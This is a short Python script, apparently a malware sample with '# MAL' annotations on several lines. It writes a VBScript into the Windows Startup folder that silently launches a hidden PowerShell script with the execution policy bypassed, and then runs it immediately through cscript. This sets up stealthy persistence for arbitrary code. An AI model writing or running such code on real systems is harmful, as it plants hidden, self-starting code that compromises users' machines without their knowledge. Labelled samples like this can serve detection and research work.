import os

vbs = 'CreateObject("WScript.Shell").Run "powershell -ep bypass -w hidden -f %TEMP%\\u.ps1", 0'
p = os.path.join(os.environ["APPDATA"], "Microsoft", "Windows", "Start Menu", "Programs", "Startup", "u.vbs")  # MAL
with open(p, "w") as fh:  # MAL
    fh.write(vbs)  # MAL
os.system("cscript //nologo " + p)  # MAL
